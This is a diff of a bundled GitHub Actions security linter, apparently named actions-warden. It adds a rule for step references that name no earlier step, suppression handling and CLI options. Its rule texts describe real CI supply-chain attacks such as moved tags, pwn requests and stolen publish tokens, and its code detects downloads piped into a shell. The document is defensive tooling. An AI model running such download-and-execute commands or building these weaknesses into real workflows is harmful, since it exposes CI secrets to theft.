+    if (distance < bestDistance) {
+      best = known.list[i];
+      bestDistance = distance;
+    }
+  }
+  return best;
+}
+function checkJob(ctx, job, budget) {
+  const { file } = ctx;
+  const top = job.steps.filter((step) => step.parallel === null);
+  const laterIds = /* @__PURE__ */ new Map();
+  const groupIds = /* @__PURE__ */ new Map();
+  for (const step of job.steps) {
+    const id = step.id?.value;
+    if (id === void 0) continue;
+    if (step.parallel === null) {
+      if (!laterIds.has(id)) laterIds.set(id, step);
+    } else if (!groupIds.has(id)) groupIds.set(id, step);
+  }
+  const known = { list: [], lower: [], exact: /* @__PURE__ */ new Set(), byLower: /* @__PURE__ */ new Map() };
+  for (const step of top) {
+    const own = step.id?.value ?? null;
+    for (const [key, list] of [["wait", true], ["cancel", false]]) {
+      for (const target of targets2(file, step.get(key), list)) {
+        if (target.value === "" || target.value.includes("${{")) continue;
+        if (known.exact.has(target.value)) continue;
+        report(ctx, job, step, key, target, own, known, laterIds.get(target.value) ?? null, groupIds.get(target.value) ?? null, budget);
+      }
+    }
+    if (own !== null && !known.exact.has(own)) {
+      const lower2 = own.toLowerCase();
+      known.exact.add(own);
+      known.list.push(own);
+      known.lower.push(lower2);
+      if (!known.byLower.has(lower2)) known.byLower.set(lower2, own);
+    }
+  }
+}
+function report(ctx, job, step, key, target, own, known, later, inGroup, budget) {
+  const id = target.value;
+  const where = `\`${key}:\` of step ${step.name || step.id ? `\`${step.label}\`` : step.position} in job \`${job.id}\``;
+  let message;
+  let suggestion2 = null;
+  if (own !== null && own.toLowerCase() === id.toLowerCase()) {
+    message = `${where} names the step itself (\`${id}\`): a step cannot ${key === "wait" ? "wait for" : "cancel"} itself`;
+  } else if (later && later !== step) {
+    message = `${where} names \`${id}\`, a later step (step ${later.position}): only a step defined earlier can be ${key === "wait" ? "waited for" : "cancelled"}`;
+  } else if (inGroup) {
+    message = `${where} names \`${id}\`, a step inside the \`parallel:\` group at step ${inGroup.parallel?.position ?? "?"}: the group already waits for its own steps, and GitHub does not accept their ids here`;
+  } else {
+    suggestion2 = closest(id, known, budget);
+    const hint = suggestion2 !== null ? `: did you mean \`${suggestion2}\`?` : known.list.length > 0 ? ` (ids defined before it: ${known.list.slice(0, 5).map((k) => `\`${k}\``).join(", ")}${known.list.length > 5 ? ", …" : ""})` : ": no step before it has an `id:`";
+    message = `${where} names \`${id}\`, which is not the id of an earlier step${hint}`;
+  }
+  const fixes = suggestion2 !== null && target.exact && PLAIN_ID.test(suggestion2) ? [{ title: `Change \`${id}\` to \`${suggestion2}\``, isPreferred: true, safety: "unsafe", edits: [{ span: target.span, newText: suggestion2 }] }] : [];
+  ctx.report({ span: target.span, message, fixes });
+}
+var unknownStepReference = {
+  id: "unknown-step-reference",
+  title: "`wait:` or `cancel:` names no earlier step of the job",
+  kinds: ["workflow"],
+  severity: "medium",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "A `wait:` or `cancel:` step names a step id that no earlier step of the job has (a typo, a later step, a step inside a `parallel:` group, or the step itself).",
+    why: "Background steps (`background: true`) keep running while the job continues: `wait:` is what keeps a later step from reading a file, a cache or credentials before a background step has finished writing them, and `cancel:` is what stops a background server, tunnel or debugging session before the steps that handle secrets or publish run. An id that names no earlier step means the step you meant is neither waited for nor stopped. GitHub's own parser (`@actions/workflow-parser` 0.3.61) rejects such a reference, so the workflow fails to start once pushed; this rule reports it as you type, says why (a typo, a later step, a step inside a `parallel:` group, the step itself) and offers the closest id.",
+    fix: "Name the `id:` of an earlier step of the same `steps:` list (ids are case-sensitive here). The quick fix replaces the id with the closest one defined before the step."
+  },
+  check(ctx) {
+    const workflow = ctx.file.workflow;
+    if (!workflow) return;
+    const budget = { left: SUGGESTION_BUDGET };
+    for (const job of workflow.jobs) checkJob(ctx, job, budget);
   }
 };
 
@@ -16081,8 +16275,8 @@ var unpinnedUses = {
     why: "In March 2025 every tag of `tj-actions/changed-files` (CVE-2025-30066) was moved to a commit that dumped the runner's memory into the build log, exposing the secrets of thousands of repositories; it came in through `reviewdog/action-setup@v1`, whose tag had been moved too (CVE-2025-30154). In 2026 the tags of `aquasecurity/trivy-action` were force-pushed the same way. Only a full commit SHA is immutable.",
     fix: "Pin to the full 40-character commit SHA and keep the version in a comment, e.g. `uses: actions/checkout@<sha> # v4.2.2`, so updaters such as Dependabot and Renovate keep it current."
   },
-  check({ file, config, online, report }) {
-    const snapshot = valueOf(online);
+  check({ file, config, online, report: report2 }) {
+    const snapshot = viewValue(online);
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote") continue;
@@ -16094,7 +16288,7 @@ var unpinnedUses = {
       const fixes = plan?.ok ? [plan.fix] : [];
       const span = refOrValueSpan(site, reference);
       if (reference.ref === null || reference.ref === "") {
-        report({
+        report2({
           span: site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan,
           message: `\`${target}\` has no ref: name a full commit SHA, e.g. \`${target}@<40-hex sha> # vX.Y.Z\``
         });
@@ -16102,24 +16296,24 @@ var unpinnedUses = {
       }
       switch (reference.refKind) {
         case "short-sha":
-          report({
+          report2({
             span,
             message: `\`${target}@${reference.ref}\` uses an abbreviated SHA, which is not a pin: an attacker can push a colliding commit. Use the full 40-character SHA`,
             fixes
           });
           break;
         case "expression":
-          report({ span, message: `${what} \`${target}\` takes its ref from an expression, which cannot be pinned`, confidence: "medium" });
+          report2({ span, message: `${what} \`${target}\` takes its ref from an expression, which cannot be pinned`, confidence: "medium" });
           break;
         case "branch-like":
-          report({
+          report2({
             span,
             message: `${what} \`${target}\` is pinned to \`${reference.ref}\`, a branch or tag that can move to other code: pin it to a full commit SHA`,
             fixes
           });
           break;
         default:
-          report({
+          report2({
             span,
             message: `${what} \`${target}\` is pinned to tag \`${reference.ref}\`, which can be moved to other code: pin it to a full commit SHA`,
             fixes
@@ -16143,12 +16337,12 @@ var unredactedSecrets = {
     why: "The runner masks the exact text of each secret. A field taken out of a JSON secret (`fromJSON(secrets.CREDS).password`) is a different string, printed in clear by any `echo`, `set -x` or error message; public build logs then leak it.",
     fix: "Store each value as its own secret, or register the parts with `::add-mask::` before anything can print them."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     walkFencedExpressions(file, (node, span) => {
       if (node.type !== "call" || functionKey(node) !== "fromjson" || node.args.length !== 1) return true;
       const path = contextPath(node.args[0], { computedIndexAsWildcard: true });
       if (path && path.startsWith("secrets.")) {
-        report({ span, message: `\`fromJSON(${path})\` yields values the runner does not mask in logs: store each value as its own secret` });
+        report2({ span, message: `\`fromJSON(${path})\` yields values the runner does not mask in logs: store each value as its own secret` });
       }
       return true;
     });
@@ -16173,7 +16367,7 @@ var unsoundCondition = {
     why: "GitHub evaluates an `if:` as an expression only when the whole value is one `${{ }}`; otherwise it interpolates the fences into a string, which is truthy. `if: |` with a `${{ }}` inside therefore always runs the step: guards such as `github.event.pull_request.head.repo.fork == false` in front of secret-using or publishing steps silently stop guarding.",
     fix: "Write the condition on one line without a fence (`if: a && b`), or use a stripping block header (`|-`, `>-`; the quick fix does that), or put all the text inside one `${{ }}`."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const { entry, owner } of conditions(file)) {
       const scalar = asScalar(entry.value);
       if (!scalar || typeof scalar.value !== "string") continue;
@@ -16193,7 +16387,7 @@ var unsoundCondition = {
         }
       }
       const reason = block && fixes.length > 0 ? "the block scalar keeps a trailing newline" : "it has text outside its `${{ }}`";
-      report({
+      report2({
         span: entry.valueSpan,
         message: `The \`if:\` of ${owner} is always true: ${reason}, so GitHub reads it as a non-empty string instead of evaluating the condition`,
         fixes
@@ -16217,7 +16411,7 @@ var unsoundContains = {
     why: "People write `contains('a b c', x)` meaning \"x is one of a, b, c\". A branch named `refs/heads/mai` or an input of `a` satisfies it, which turns branch or actor guards in front of deployments and secret use into formalities.",
     fix: 'Use an array: `contains(fromJSON(\'["refs/heads/main", "refs/heads/release"]\'), github.ref)`, or explicit comparisons joined with `||`.'
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const expression of evaluatedExpressions(file)) {
       if (!/contains/i.test(expression.text)) continue;
       const ast = expression.parsed.ast;
@@ -16229,7 +16423,7 @@ var unsoundContains = {
         const path = contextPath(needle, { caseInsensitive: true });
         if (!path) return;
         const controllable = CONTROLLABLE.some((pattern) => pattern.test(path));
-        report({
+        report2({
           span: { start: node.start, end: node.end },
           message: `\`contains('${String(haystack.value)}', ${path})\` tests whether \`${path}\` is a substring of the literal, not whether it is one of its words${controllable ? `; \`${path}\` can be chosen to pass` : ""}`,
           severity: controllable ? "high" : "informational"
@@ -16262,7 +16456,7 @@ var unsoundTernary = {
     why: "Expressions have no ternary operator before `case()`; the `&&`/`||` idiom is everywhere, and with a falsy middle value it silently inverts: `${{ github.event_name == 'push' && false || true }}` is always `true`, so a flag meant to be off for pushes (a dry run, `--no-publish`) is on.",
     fix: "Swap the branches and negate the condition (`!cond && 'x' || ''`), or use `case(cond, '', 'x')`."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const expression of evaluatedExpressions(file)) {
       if (!expression.text.includes("&&") || !expression.text.includes("||")) continue;
       const ast = expression.parsed.ast;
@@ -16273,7 +16467,7 @@ var unsoundTernary = {
         if (left.type !== "binary" || left.op !== "&&" || !isFalsyLiteral(left.right)) return;
         const literal = unwrap2(left.right);
         const shown = literal.type === "literal" ? literal.kind === "string" ? `''` : String(literal.value) : "?";
-        report({
+        report2({
           span: { start: node.start, end: node.end },
           message: `\`… && ${shown} || …\` never evaluates to ${shown}: when the condition holds, ${shown} is falsy and the \`||\` branch is taken instead`
         });
@@ -16297,7 +16491,7 @@ var untrustedCheckout = {
     why: 'This is the "pwn request". At spotbugs (2024) a `pull_request_target` workflow checked out `refs/pull/N/merge` and ran Maven with a maintainer PAT in the environment; the stolen PAT led to reviewdog and then to tj-actions/changed-files. PostHog (2025) ran a script from the pull request with a bot PAT that published to npm; Trivy (2026, hackerbot-claw) ran `uses: ./.github/actions/setup-go` from the checked-out pull request with an org PAT; the prt-scan wave (2026) opened mass pull requests against workflows that ran `npm install` on the head commit.',
     fix: "Build pull requests under `pull_request` (no secrets, read-only token for forks). If results must be posted back, upload them as an artifact and let a separate `workflow_run` job post them without checking out or executing anything from the pull request. If a privileged job really must look at the code, check it out into a subdirectory and only read it as data."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     const triggers = privilegedTriggers(workflow, TRIGGERS3);
@@ -16315,7 +16509,7 @@ var untrustedCheckout = {
         ].filter((part) => part !== null);
         const first = executions[0];
         const guarded = job.environment || /label|author_association|permission/i.test(scalarText(job.if?.value ?? null) ?? "");
-        report({
+        report2({
           span: first.span,
           message: `job \`${job.id}\` runs ${first.what} on pull request code fetched by ${checkout.how} under \`${triggers.join("`/`")}\`${reach.length > 0 ? `, with ${reach.join(" and ")} in reach` : " (the job's cache and artifacts are in reach)"}`,
           severity: reach.length > 0 ? "high" : "medium",
@@ -16426,7 +16620,7 @@ var unverifiedDownload = {
     why: "A SHA-pinned action is immutable; what it downloads is not. In LiteLLM (2026, PYSEC-2026-2) the publishing job ran `curl …/main/install.sh | sh` and installed a scanner whose release had been replaced, which stole the PyPI credential. Codecov's bash uploader (2021) was altered at its download URL and exfiltrated CI secrets for two months. Astral calls this the gap no tool covers: download, then `sha256sum -c` against a pinned checksum.",
     fix: 'Pin the version in the URL and verify it before use: `echo "<sha256>  tool.tar.gz" | sha256sum -c -` (or `gh attestation verify`, `cosign verify-blob`, `minisign -V`, `gpg --verify`). Never pipe a download into a shell. Record known hashes in the rule\'s `checksums` map (URL or URL pattern with `*` → sha256) to get a quick fix that inserts the check.'
   },
-  check({ file, config, report }) {
+  check({ file, config, report: report2 }) {
     const jobs = file.workflow ? file.workflow.jobs : file.action ? [null] : [];
     for (const job of jobs) {
       const scripts = runScriptsOf(file, job);
@@ -16439,7 +16633,7 @@ var unverifiedDownload = {
           else if ((name === "pip" || name === "pip3" || name.startsWith("python") && command.argv[2]?.text === "pip") && args(command).some((word) => word.text === "install")) {
             const target = args(command).find((word) => /^(https?:\/\/|git\+)/.test(word.text));
             if (target && !/#sha256=|--require-hashes/.test(run2.script.text) && !/@[0-9a-f]{40}/.test(target.text)) {
-              report({ span: run2.sourceSpan(target.span), message: `\`pip install\` installs \`${target.text}\` straight from a URL, with no hash: whoever controls that URL controls the install`, severity: "medium", confidence: "medium" });
+              report2({ span: run2.sourceSpan(target.span), message: `\`pip install\` installs \`${target.text}\` straight from a URL, with no hash: whoever controls that URL controls the install`, severity: "medium", confidence: "medium" });
             }
             continue;
           }
@@ -16449,18 +16643,18 @@ var unverifiedDownload = {
           const next = pipedInto(run2.script, command);
           if (next) {
             if (SHELLS.has(next.name) || next.name === "sudo" && SHELLS.has(next.argv[0]?.text ?? "")) {
-              report({ span, message: `\`${url}\` is downloaded and piped straight into \`${next.name}\`: whoever controls that URL (or its release) runs code in this job`, severity: "high", confidence: "high", related: [{ span: run2.sourceSpan(next.span), message: "executes the download" }] });
+              report2({ span, message: `\`${url}\` is downloaded and piped straight into \`${next.name}\`: whoever controls that URL (or its release) runs code in this job`, severity: "high", confidence: "high", related: [{ span: run2.sourceSpan(next.span), message: "executes the download" }] });
               continue;
             }
             if (EXTRACT.has(next.name) && !verified(scripts, download)) {
-              report({ span, message: `\`${url}\` is downloaded and extracted (\`${next.name}\`) with no checksum or signature check`, severity: "medium", confidence: "medium", related: [{ span: run2.sourceSpan(next.span), message: "extracts the download" }] });
+              report2({ span, message: `\`${url}\` is downloaded and extracted (\`${next.name}\`) with no checksum or signature check`, severity: "medium", confidence: "medium", related: [{ span: run2.sourceSpan(next.span), message: "extracts the download" }] });
             }
             continue;
           }
           if (command.inSubstitution) {
             const outer = run2.script.commands.find((other) => !other.inSubstitution && other.span.start <= command.span.start && other.span.end >= command.span.end);
             if (outer && SHELLS.has(outer.name)) {
-              report({ span, message: `\`${url}\` is downloaded and executed by \`${outer.name}\` in one go: whoever controls that URL runs code in this job`, severity: "high", confidence: "high" });
+              report2({ span, message: `\`${url}\` is downloaded and executed by \`${outer.name}\` in one go: whoever controls that URL runs code in this job`, severity: "high", confidence: "high" });
             }
             continue;
           }
@@ -16475,7 +16669,7 @@ var unverifiedDownload = {
             const at = lineIndex.lineContentEnd(endLine);
             fixes.push({ title: `Verify ${download.file} against its recorded sha256`, isPreferred: true, safety: "safe", edits: [{ span: { start: at, end: at }, newText: `${lineIndex.eol}${indent}echo "${hash}  ${download.file}" | sha256sum -c -` }] });
           }
-          report({
+          report2({
             span,
             message: `\`${url}\` is downloaded${download.file ? ` to \`${download.file}\`` : ""} and then ${PAST[use.what] ?? use.what}, with no checksum or signature check${hash ? " (its sha256 is recorded in the configuration)" : ""}`,
             severity: use.what === "executes" || use.what === "installs" || use.what === "makes executable" ? "high" : "medium",
@@ -16505,7 +16699,7 @@ var useTrustedPublishing = {
     why: "A stored publish token works from anywhere until someone revokes it. Nx s1ngularity (2025) and elementary-data (2026) lost `NPM_TOKEN` / PyPI passwords from injectable workflows; LiteLLM (2026, PYSEC-2026-2) had its PyPI credential stolen by a compromised scanner running in the publishing job; Ultralytics (2024) saw 8.3.45/46 published with a stolen token after the Trusted Publishing path was closed. With Trusted Publishing there is no token to steal: the registry trusts this repository, workflow and environment only for minutes.",
     fix: "Register the workflow as a trusted publisher on the registry, grant the job `permissions: id-token: write`, run it in a protected `environment:`, and drop the token: `pypa/gh-action-pypi-publish` without `password`, `uv publish` / `twine` via the OIDC exchange, `npm publish --provenance` with npm ≥ 11.5, `rust-lang/crates-io-auth-action`, `rubygems/release-gem`, NuGet's `NuGet/login`."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     const seen = /* @__PURE__ */ new Set();
     const jobs = workflow ? workflow.jobs.map((job) => ({ job, steps: job.steps })) : file.action ? [{ job: null, steps: file.action.steps }] : [];
@@ -16525,7 +16719,7 @@ var useTrustedPublishing = {
         const value = input(step, credential.key) ?? "";
         if (credential.key === "password" && /secrets\.GITHUB_TOKEN/i.test(value)) continue;
         seen.add(entry.keySpan.start);
-        report({
+        report2({
           span: entry.keySpan,
           message: `\`${action.name}\` publishes to ${credential.registry} with a long-lived credential (\`${credential.key}\`); ${credential.registry} supports Trusted Publishing${oidc2 ? " and this job already has `id-token: write`: drop the credential" : ": grant `id-token: write` and drop it"}`
         });
@@ -16550,7 +16744,7 @@ var useTrustedPublishing = {
         const span = run2.sourceSpan({ start: command.argv[0].span.start, end: (command.argv[1] ?? command.argv[0]).span.end });
         if (seen.has(span.start)) continue;
         seen.add(span.start);
-        report({
+        report2({
           span,
           message: `\`${publish.label}\` publishes to ${registry} with a long-lived credential (${credential}); ${registry} supports Trusted Publishing: grant the job \`id-token: write\` and drop the token`
         });
@@ -16605,7 +16799,8 @@ var RULES = [
   useTrustedPublishing,
   unverifiedDownload,
   adhocPackages,
-  unpinnedTools
+  unpinnedTools,
+  unknownStepReference
 ];
 var byId = new Map(RULES.map((rule) => [rule.id, rule]));
 function ruleById(id) {
@@ -16740,20 +16935,20 @@ function analyze(file, options = DEFAULT_ANALYSIS_OPTIONS) {
 function* analysisSteps(file, options) {
   if (file.kind === "unknown") return [];
   const findings = [];
-  const toFinding = (rule, report) => {
-    const finding = buildFinding(rule, report);
-    return typeof report.fixes === "function" ? withLazyFixes(finding, report.fixes) : finding;
+  const toFinding = (rule, report2) => {
+    const finding = buildFinding(rule, report2);
+    return typeof report2.fixes === "function" ? withLazyFixes(finding, report2.fixes) : finding;
   };
-  const buildFinding = (rule, report) => ({
+  const buildFinding = (rule, report2) => ({
     ruleId: rule.id,
-    severity: report.severity ?? rule.severity,
-    confidence: report.confidence ?? rule.confidence,
-    persona: report.persona ?? rule.persona,
-    message: report.message,
-    span: report.span,
-    range: file.lines.range(report.span),
-    related: (report.related ?? []).map((related2) => ({ ...related2, range: file.lines.range(related2.span) })),
-    fixes: typeof report.fixes === "function" ? [] : report.fixes ?? []
+    severity: report2.severity ?? rule.severity,
+    confidence: report2.confidence ?? rule.confidence,
+    persona: report2.persona ?? rule.persona,
+    message: report2.message,
+    span: report2.span,
+    range: file.lines.range(report2.span),
+    related: (report2.related ?? []).map((related2) => ({ ...related2, range: file.lines.range(related2.span) })),
+    fixes: typeof report2.fixes === "function" ? [] : report2.fixes ?? []
   });
   for (const problem of file.problems) {
     if (problem.code === INTERNAL_ERROR_RULE) {
@@ -16770,8 +16965,8 @@ function* analysisSteps(file, options) {
     file,
     config: NO_CONFIG,
     ...NO_VIEWS,
-    report: (report) => {
-      if (current) findings.push(toFinding(current, report));
+    report: (report2) => {
+      if (current) findings.push(toFinding(current, report2));
     }
   };
   for (const rule of options.rules ?? RULES) {
@@ -16791,16 +16986,33 @@ function* analysisSteps(file, options) {
   current = null;
   const adjusted = options.adjust ? findings.map(options.adjust).filter((finding) => finding !== null) : findings;
   const ignores = new IgnoreTracker(file);
-  const kept = adjusted.filter((finding) => !ignores.suppresses(finding));
+  const suppressed = [];
+  const hide = (finding) => {
+    if (isSuppressed(finding)) return suppressed.push(finding) > 0;
+    if (!ignores.suppresses(finding)) return false;
+    if (options.keepSuppressed) suppressed.push(Object.assign(finding, { suppression: inlineSuppression(file, ignores, finding) }));
+    return true;
+  };
+  const kept = adjusted.filter((finding) => !hide(finding));
   if (!options.disabledRules.has(UNUSED_IGNORE_RULE)) {
     const ran = new Set((options.rules ?? RULES).filter((rule) => rule.kinds.includes(file.kind) && !options.disabledRules.has(rule.id)).map((rule) => rule.id));
-    for (const report of unusedIgnores(file, ignores, ran)) {
-      const finding = toFinding(builtIn(UNUSED_IGNORE_RULE), report);
+    for (const report2 of unusedIgnores(file, ignores, ran)) {
+      const finding = toFinding(builtIn(UNUSED_IGNORE_RULE), report2);
       const final = options.adjust ? options.adjust(finding) : finding;
-      if (final && !ignores.suppresses(final)) kept.push(final);
+      if (final && !hide(final)) kept.push(final);
     }
   }
+  if (suppressed.length > 0) kept.push(...suppressed);
   return kept.filter((finding) => isShown(finding, options)).sort(compareFindings);
+}
+var MAX_JUSTIFICATION_LENGTH = 500;
+function inlineSuppression(file, ignores, finding) {
+  const first = file.lines.lineAt(finding.span.start);
+  const last = file.lines.lineAt(finding.span.end);
+  const comment = ignores.comments.find((candidate) => candidate.line >= first && candidate.line <= last && candidate.rules.includes(finding.ruleId));
+  if (!comment) return { kind: "inSource" };
+  const justification = file.text.slice(comment.span.end, file.lines.lineContentEnd(comment.line)).trim().slice(0, MAX_JUSTIFICATION_LENGTH);
+  return justification ? { kind: "inSource", justification } : { kind: "inSource" };
 }
 function isShown(finding, options) {
   if (builtInRule(finding.ruleId)?.alwaysShown) return true;
@@ -16869,6 +17081,8 @@ var TOOL_NAME = "actions-warden";
 // server/src/cli/args.ts
 var FORMATS = ["text", "json", "sarif", "github"];
 var FIX_MODES = ["safe", "all"];
+var COLLECT_MODES = ["default", "all"];
+var EXIT_CODE_MODES = ["default", "severity"];
 var DEFAULT_CLI_OPTIONS = {
   paths: [],
   format: "text",
@@ -16876,6 +17090,10 @@ var DEFAULT_CLI_OPTIONS = {
   minSeverity: "informational",
   minConfidence: "low",
   offline: false,
+  online: false,
+  collect: "default",
+  noIgnores: false,
+  exitCodes: "default",
   explicit: [],
   noConfig: false,
   dryRun: false,
@@ -16893,14 +17111,20 @@ var VALUE_OPTIONS2 = {
   "--min-confidence": { key: "minConfidence", allowed: CONFIDENCES },
   "--config": { key: "config", allowed: null },
   "--github-server-url": { key: "githubServerUrl", allowed: null },
-  "--github-api-url": { key: "githubApiUrl", allowed: null }
+  "--github-api-url": { key: "githubApiUrl", allowed: null },
+  "--collect": { key: "collect", allowed: COLLECT_MODES },
+  "--cache-dir": { key: "cacheDir", allowed: null },
+  "--exit-codes": { key: "exitCodes", allowed: EXIT_CODE_MODES }
 };
 var FLAG_OPTIONS = {
   "--offline": (options) => {
     options.offline = true;
   },
   "--online": (options) => {
-    options.offline = false;
+    options.online = true;
+  },
+  "--no-ignores": (options) => {
+    options.noIgnores = true;
   },
   "--no-config": (options) => {
     options.noConfig = true;
@@ -16971,7 +17195,8 @@ function parseArgs(argv) {
     }
     const isUrl = valued.key === "githubServerUrl" || valued.key === "githubApiUrl";
     if (valued.allowed ? !valued.allowed.includes(value) : value === "") {
-      return { ok: false, error: `invalid value '${isUrl ? displayUrl(value) : value}' for ${name}${valued.allowed ? `: expected one of ${valued.allowed.join(", ")}` : ""}` };
+      const close = valued.allowed ? closest2(value, valued.allowed) : void 0;
+      return { ok: false, error: `invalid value '${isUrl ? displayUrl(value) : value}' for ${name}${valued.allowed ? `: expected one of ${valued.allowed.join(", ")}${close ? ` (did you mean ${close}?)` : ""}` : ""}` };
     }
     if (isUrl && !/^https?:\/\/\S+$/.test(value)) {
       return { ok: false, error: `invalid value '${displayUrl(value)}' for ${name}: expected an http(s) URL` };
@@ -16988,42 +17213,99 @@ function parseArgs(argv) {
 }
 function suggestion(name) {
   const known = [...Object.keys(VALUE_OPTIONS2), ...Object.keys(FLAG_OPTIONS), "--fix"].filter((option) => option.startsWith("--"));
-  const close = known.find((option) => option.startsWith(name) || name.length > 3 && option.includes(name.replace(/^-+/, "")));
-  return close ? ` (did you mean ${close}?)` : "";
+  const bare = name.replace(/^-+/, "");
+  const prefixed = bare.length >= 2 ? known.filter((option) => option.startsWith(`--${bare}`)) : [];
+  if (prefixed.length === 1) return ` (did you mean ${prefixed[0]}?)`;
+  const close = closest2(bare, known.map((option) => option.slice(2)));
+  return close ? ` (did you mean --${close}?)` : "";
+}
+function closest2(input2, candidates) {
+  if (input2.length === 0 || input2.length > 64) return void 0;
+  let best;
+  let bestDistance = Infinity;
+  for (const candidate of candidates) {
+    const distance = editDistance2(input2, candidate);
+    if (distance < bestDistance) {
+      best = candidate;
+      bestDistance = distance;
+    }
+  }
+  return best !== void 0 && bestDistance <= Math.max(1, Math.floor(best.length / 3)) ? best : void 0;
+}
+function editDistance2(a, b) {
+  const rows = a.length + 1;
+  const cols = b.length + 1;
+  const d = Array.from({ length: rows }, (_, i) => Array.from({ length: cols }, (_2, j) => i === 0 ? j : j === 0 ? i : 0));
+  for (let i = 1; i < rows; i++) {
+    for (let j = 1; j < cols; j++) {
+      const cost = a[i - 1] === b[j - 1] ? 0 : 1;
+      d[i][j] = Math.min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + cost);
+      if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) d[i][j] = Math.min(d[i][j], d[i - 2][j - 2] + 1);
+    }
+  }
+  return d[a.length][b.length];
 }
 var HELP_TEXT = `Usage: ${TOOL_NAME} [options] [paths...]
 
 Audits GitHub Actions workflows, action metadata (action.yml) and Dependabot
 files for security problems.
 
-A folder is searched recursively (skipping node_modules and .git) for
-.github/workflows/*.yml|yaml, action.yml|yaml and .github/dependabot.yml|yaml.
+A folder is searched recursively (skipping node_modules, .git and what its
+.gitignore files name) for .github/workflows/*.yml|yaml, action.yml|yaml and
+.github/dependabot.yml|yaml.
 A file named explicitly is analysed as the kind its name says, and as a
 workflow when its name says nothing. With no paths, the current directory is
 searched. "-" reads a workflow from standard input.
 
-Options:
+Input:
+      --collect <default|all>
+                             default: leave out what .gitignore files in the
+                             searched folders name (root and nested, with !,
+                             dir/, /anchored and ** patterns); all: every file
+                             found. node_modules and .git are always skipped,
+                             and files named explicitly are always analysed
+      --config <file>        Use this configuration file for every input
+      --no-config            Use no configuration file
+
+Output:
   -f, --format <text|json|sarif|github>
                              Output format (default: text). sarif is SARIF
-                             2.1.0 for code scanning; github prints workflow
+                             2.1.0 for code scanning (ignored findings are
+                             marked suppressed); github prints workflow
                              command annotations (::error file=...::)
+      --no-color             Never colour the text output or link rule ids
+                             (also: NO_COLOR=1)
+      --color                Colour the text output even when not a terminal
+      --no-code-frame        No source excerpt under each finding on a terminal
+      --exit-codes <default|severity>
+                             default: 0 / 1 / 2 as below; severity: 11, 12, 13
+                             or 14 when the highest severity shown is
+                             informational, low, medium or high
+
+Rules:
       --persona <regular|pedantic|auditor>
                              Which findings to show; each includes the previous
                              (default: regular)
       --min-severity <informational|low|medium|high>
                              Hide findings below this severity; it is also the
-                             threshold for the exit code (default: informational)
+                             threshold for the exit code (default:
+                             informational)
       --min-confidence <low|medium|high>
                              Hide findings below this confidence (default: low)
-      --config <file>        Use this configuration file for every input
-      --no-config            Use no configuration file
-      --fix[=safe|all]       Apply the preferred fixes in place (safe: only those
-                             that never change behaviour, the default; all: also
-                             the unsafe ones), then report what is left
+      --no-ignores           Also report what inline ignore comments and the
+                             configuration's rules.<id>.ignore hide (audits)
+      --fix[=safe|all]       Apply the preferred fixes in place (safe: only
+                             those that never change behaviour, the default;
+                             all: also the unsafe ones), then report what is
+                             left. Text output marks them: [fix] for --fix,
+                             [fix: --fix=all] for the unsafe ones
       --dry-run              With --fix: print a unified diff, change nothing
-      --offline              Do not use the network
-      --online               Allow online checks (default; needs GITHUB_TOKEN or
-                             GH_TOKEN for the REST API)
+
+Online (off unless --online, a token or a host flag is given):
+      --online               Resolve tags and commits on GitHub (online rules,
+                             advisories, pins for --fix). Also turned on by a
+                             token in GITHUB_TOKEN or GH_TOKEN, or a host flag
+      --offline              Make no network request at all (wins over the rest)
       --github-server-url <url>, --github-api-url <url>
                              GitHub Enterprise Server addresses; with only the
                              server URL, the API is <url>/api/v3. Otherwise
@@ -17031,9 +17313,11 @@ Options:
                              github.server-url / github.api-url in
                              ~/.config/actions-warden/config.yml decide. A
                              repository's configuration never chooses a host
-      --no-color             Never colour the text output (also: NO_COLOR=1)
-      --color                Colour the text output even when not a terminal
-      --no-code-frame        No source excerpt under each finding on a terminal
+      --cache-dir <dir>      Cache of online answers (default:
+                             $XDG_CACHE_HOME/actions-warden, else
+                             ~/.cache/actions-warden)
+
+Other:
   -h, --help                 Show this help
   -V, --version              Show the version
 
@@ -17045,6 +17329,8 @@ Exit status:
   0  nothing at or above the threshold was found
   1  findings at or above the threshold were found
   2  usage error or I/O error (unknown option, missing path, unreadable file)
+  11-14  with --exit-codes severity, instead of 1: the highest severity shown
+         (11 informational, 12 low, 13 medium, 14 high)
 `;
 
 // server/src/cli/diff.ts
@@ -17153,8 +17439,8 @@ function diffLines(a, b) {
 }
 
 // server/src/cli/discover.ts
-var import_node_fs4 = require("node:fs");
-var import_node_path4 = require("node:path");
+var import_node_fs5 = require("node:fs");
+var import_node_path5 = require("node:path");
 
 // server/src/files/walk.ts
 var import_node_fs3 = require("node:fs");
@@ -17226,6 +17512,7 @@ function walkFolder(root, options) {
         } catch {
           continue;
         }
+        if (options.ignore?.(path, isDirectory)) continue;
         if (isDirectory) {
           if (SKIPPED_DIRECTORIES.has(entry.name)) continue;
           if (!isInside(realRoot, target)) result.skipped.push(path);
@@ -17235,8 +17522,8 @@ function walkFolder(root, options) {
           else linkedFiles.push({ path, real: target });
         }
       } else if (entry.isDirectory()) {
-        if (!SKIPPED_DIRECTORIES.has(entry.name) && depth < maxDepth) subdirectories.push({ path, depth: depth + 1 });
-      } else if (entry.isFile() && options.accept(path)) {
+        if (!SKIPPED_DIRECTORIES.has(entry.name) && depth < maxDepth && !options.ignore?.(path, true)) subdirectories.push({ path, depth: depth + 1 });
+      } else if (entry.isFile() && options.accept(path) && !options.ignore?.(path, false)) {
         if (!addFile(path, (0, import_node_path3.join)(real, entry.name))) return result;
       }
     }
@@ -17247,17 +17534,274 @@ function walkFolder(root, options) {
   return result;
 }
 
+// server/src/cli/gitignore.ts
+var import_node_fs4 = require("node:fs");
+var import_node_path4 = require("node:path");
